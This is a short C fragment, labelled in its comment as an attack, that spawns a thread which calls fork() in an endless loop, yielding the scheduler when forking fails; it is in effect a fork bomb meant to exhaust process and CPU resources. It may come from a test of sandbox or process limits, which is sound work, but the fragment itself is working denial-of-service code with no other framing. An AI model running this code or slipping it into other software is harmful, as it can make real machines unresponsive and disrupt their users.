/* Attack: a thread of its own, that forks and forks. */
static void *multiply(void *unused) {
    for (;;) {
        if (fork() < 0) {
            sched_yield();
        }
    }
    return unused;
}

static void attack(void) {
    pthread_t thread;
    pthread_create(&thread, NULL, multiply, NULL);
}
